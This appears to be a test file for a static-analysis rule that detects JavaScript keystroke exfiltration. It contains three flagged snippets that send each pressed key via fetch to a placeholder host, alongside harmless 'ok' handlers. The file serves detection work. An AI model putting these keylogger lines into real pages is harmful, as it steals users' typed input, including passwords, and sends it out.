const ADDRESS = "https://keys.example.invalid";

// ruleid: exfiltration/keystrokes-recorded-javascript
document.addEventListener("keydown", (event) => {
  fetch(ADDRESS, { method: "POST", body: event.key });
});

// ruleid: exfiltration/keystrokes-recorded-javascript
document.onkeypress = function (event) {
  fetch(`${ADDRESS}?k=${event.key}`);
};

// ruleid: exfiltration/keystrokes-recorded-javascript
document.addEventListener("keyup", (event) => fetch(`${ADDRESS}?k=${event.key}`));

// ok: exfiltration/keystrokes-recorded-javascript
document.addEventListener("keydown", (event) => {
  if (event.key === "Escape") {
    close();
  }
});

// ok: exfiltration/keystrokes-recorded-javascript
document.addEventListener("click", () => {
  report("click");
});

// ok: exfiltration/keystrokes-recorded-javascript
document.onkeydown = function (event) {
  event.preventDefault();
};

function report(kind) {
  // ok: exfiltration/keystrokes-recorded-javascript
  fetch(ADDRESS, { method: "POST", body: kind });
}
